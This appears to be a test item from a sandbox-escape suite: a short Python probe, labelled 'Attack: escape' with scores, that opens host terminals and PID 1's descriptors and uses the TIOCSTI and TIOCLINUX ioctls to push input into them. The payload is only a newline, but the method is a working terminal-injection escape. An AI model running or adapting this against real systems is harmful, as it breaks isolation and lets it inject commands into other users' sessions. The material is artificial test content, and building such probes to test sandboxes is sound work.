"""Pushes characters into a terminal by TIOCSTI, TIOCLINUX and a new controlling terminal.

Attack: escape
Deserves: 80
Keeps: 80
"""

# %% extra before: sampling
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
# use: told

import fcntl
_done = []
for _path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/proc/1/fd/0", "/proc/1/fd/2"):
    try:
        _fd = os.open(_path, os.O_RDWR | os.O_NOCTTY)
    except OSError:
        continue
    for _request in (0x5412, 0x541C):
        try:
            fcntl.ioctl(_fd, _request, b"\n")
            _done.append(_path)
        except OSError:
            pass
    os.close(_fd)
if _done: _escaped(_done)
